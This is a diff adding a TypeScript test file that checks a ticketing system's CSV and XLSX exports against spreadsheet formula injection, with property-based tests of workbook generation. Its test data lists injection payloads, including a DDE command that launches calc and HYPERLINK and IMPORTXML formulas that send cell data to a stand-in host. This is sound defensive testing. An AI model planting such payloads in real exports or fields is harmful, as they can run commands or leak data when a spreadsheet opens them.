@@ -1,0 +1,153 @@
+import fc from 'fast-check';
+import { describe, expect, it } from 'vitest';
+import { exported, readCsv, readXlsx, unzip } from '../../test/exports.ts';
+import { useWorld } from '../../test/harness.ts';
+import { minutesAfterNoon, noon } from '../../test/world.ts';
+import type { Kind } from './columns.ts';
+import { xlsx } from './xlsx.ts';
+
+const world = useWorld();
+
+/** What spreadsheets have run in the past, or may. */
+const injections = [
+  '=1+1',
+  '+1+1',
+  '-1+1',
+  '@SUM(A1)',
+  '\t=1+1',
+  '\r=1+1',
+  '\n=1+1',
+  "=cmd|' /C calc'!A0",
+  '=HYPERLINK("http://evil.example?"&A1,"click")',
+  '=IMPORTXML("http://evil.example","//a")',
+  '＝1+1',
+  'Ana;=1+1',
+  'Ana; "=1+1',
+  '"=1+1',
+  "a'=b",
+  '-',
+  ';-1',
+];
+const innocent = ['Ana Souza', 'ana=b', 'a+b@test.test', '12-34', "O'Brien", 'A; B', 'x;y', '2º lote', '<b>&"', '😀', '_x0041_'];
+
+/** Cells that a spreadsheet would take for a formula, parted by comma or, as in some countries, by semicolon. */
+function formulasIn(text: string): string[] {
+  const begins = /^[\s"]*[=+@\-\t\r\n＝＋－＠]/;
+  const isNumber = /^-?\d+(\.\d+)?$/;
+  const parted = (cell: string) => [cell, ...cell.split(';').slice(1)];
+  return readCsv(text).flatMap((row) =>
+    row.flatMap(parted).filter((cell) => begins.test(cell) && !isNumber.test(cell) && !cell.startsWith('"')),
+  );
+}
+
+/** An order, a ticket, a code and a passkey in which every text is this one. */
+async function plant(text: string): Promise<void> {
+  await world.pool.query(
+    `with i as (insert into item (event_id, type, name, description, position, hidden, salable, created_at, updated_at)
+                values ($1, 'ticket', $2, '', 0, false, true, now(), now()) returning id),
+     s as (insert into event_session (event_id, name, starts_at, finishes_at) values ($1, $2, now(), now() + interval '1 hour') returning id),
+     k as (insert into passkey (event_id, code, created_at, updated_at) values ($1, $2 || '!!!', now(), now()) returning id),
+     o as (insert into ticket_order (event_id, id, status, app_category_id, passkey_id, buyer_name, buyer_email, buyer_document, total,
+                                     currency, secret_hash, created_at, expires_at, approved_at)
+           select $1, nextval('ticket_order_id'), 'approved', 1, k.id, $2, $2, $2, 0, 'BRL', '', now(), now(), now() from k returning id),
+     l as (insert into order_line (event_id, order_id, item_id, session_ids, quantity, price, fee_sale, fee_producer, unlocked)
+           select $1, o.id, i.id, array[s.id], 1, 0, 0, 0, false from o, i, s),
+     t as (insert into ticket (event_id, order_id, item_id, created_at) select $1, o.id, i.id, now() from o, i)
+     insert into external_code (event_id, item_id, code, holder_name, holder_document, created_at)
+     select $1, i.id, $2 || o.id, $2, $2, now() from o, i`,
+    [world.event, text],
+  );
+}
+
+const lists = ['transactions', 'guestlist', 'passkey'] as const;
+let minute = 0;
+
+/** All three lists, newly made. */
+async function exportAll(format: 'csv' | 'xlsx'): Promise<Buffer[]> {
+  world.now = minutesAfterNoon((minute += 2));
+  const files: Buffer[] = [];
+  for (const type of lists) {
+    files.push((await exported(world, { body: { type, format, ...(type === 'passkey' && { filters: [{ status: 'all' }] }) } })).file);
+  }
+  world.now = noon;
+  return files;
+}
+
+describe('cells that a spreadsheet would run', () => {
+  it('none in CSV, whatever stands in any field; and the detector would see one', async () => {
+    for (const text of [...injections, ...innocent]) await plant(text);
+    const files = await exportAll('csv');
+    for (const file of files) expect(formulasIn(file.toString())).toEqual([]);
+    const [transactions = ''] = files.map(String);
+    for (const text of innocent) expect(transactions).toContain(text.replaceAll('"', '""'));
+
+    // Control: without the guard the detector sees them.
+    await world.pool.query('alter function csv_text(text) rename to csv_text_guarded');
+    await world.pool.query('create function csv_text(cell text) returns text language sql immutable return cell');
+    for (const file of await exportAll('csv')) expect(formulasIn(file.toString()).length).toBeGreaterThan(5);
+    await world.pool.query('drop function csv_text(text)');
+    await world.pool.query('alter function csv_text_guarded(text) rename to csv_text');
+  });
+
+  it('none in XLSX: every text is a text, as it was typed', async () => {
+    for (const file of await exportAll('xlsx')) {
+      for (const [name, bytes] of unzip(file)) {
+        expect(bytes.toString(), name).not.toMatch(/<f[\s>/]|t="(str|e|b|s)"|DDE|externalLink/);
+      }
+      const [rows = []] = readXlsx(file);
+      const texts = rows.slice(1).flatMap((row) => row.flatMap(({ text, style }) => (text === null ? [] : [{ text, style }])));
+      const risky = texts.filter(({ text }) => /^[=+\-@\t\r\n]/.test(text));
+      expect(risky.length).toBeGreaterThan(0);
+      // Marked as text, so that who edits the cell does not make it a formula.
+      expect(risky.filter(({ style }) => style !== 3)).toEqual([]);
+    }
+  });
+});
+
+const kinds: Kind[] = ['text', 'number', 'money', 'time', 'word'];
+const copyLine = (cells: (string | null)[]) =>
+  `${cells.map((cell) => (cell === null ? '\\N' : cell.replaceAll('\\', '\\\\').replaceAll('\t', '\\t').replaceAll('\n', '\\n').replaceAll('\r', '\\r'))).join('\t')}\n`;
+
+async function workbook(lines: Buffer[], rowsPerSheet?: number): Promise<Buffer> {
+  const chunks: Buffer[] = [];
+  const source = async function* () {
+    yield* lines;
+  };
+  const sheet = { title: 'test', header: kinds, kinds, lines: source(), ...(rowsPerSheet && { rowsPerSheet }) };
+  for await (const chunk of xlsx(sheet)) chunks.push(chunk);
+  return Buffer.concat(chunks);
+}
+
+describe('a workbook', () => {
+  it('holds any text that the database can, cut anywhere on its way', async () => {
+    const text = fc.string({ unit: 'binary' }).map((s) => s.replaceAll('\0', ''));
+    const rows = fc.array(fc.tuple(fc.option(text), fc.integer(), text), { maxLength: 20 });
+    await fc.assert(
+      fc.asyncProperty(rows, fc.integer({ min: 1, max: 50 }), fc.integer({ min: 2, max: 7 }), async (typed, size, rowsPerSheet) => {
+        const bytes = Buffer.from(typed.map(([a, n, b]) => copyLine([a, String(n), '1.50', '46083.5', b])).join(''));
+        const chunks = Array.from({ length: Math.ceil(bytes.length / size) }, (_, i) => bytes.subarray(i * size, (i + 1) * size));
+        const sheets = readXlsx(await workbook(chunks, rowsPerSheet));
+        expect(sheets.map((sheet) => sheet[0]?.map(({ text }) => text))).toEqual(sheets.map(() => kinds));
+        const read = sheets.flatMap((sheet) => sheet.slice(1).map((row) => row.map(({ text, number }) => text ?? number)));
+        expect(read).toEqual(typed.map(([a, n, b]) => [a, n, 1.5, 46083.5, b]));
+        for (const sheet of sheets) expect(sheet.length).toBeLessThanOrEqual(rowsPerSheet);
+      }),
+      { numRuns: 60 },
+    );
+  });
+
+  it('has no more than its header when there is nothing to tell', async () => {
+    expect(readXlsx(await workbook([])).map((sheet) => sheet.length)).toEqual([1]);
+  });
+
+  it('fails whole when its rows break off', async () => {
+    const broken = async function* (): AsyncGenerator<Buffer> {
+      yield Buffer.from(copyLine(['a', '1', '1.00', '1', 'b']));
+      throw new Error('broken off');
+    };
+    const drain = async () => {
+      for await (const _ of xlsx({ title: 'test', header: kinds, kinds, lines: broken() }));
+    };
+    await expect(drain()).rejects.toThrow('broken off');
+  });
+});
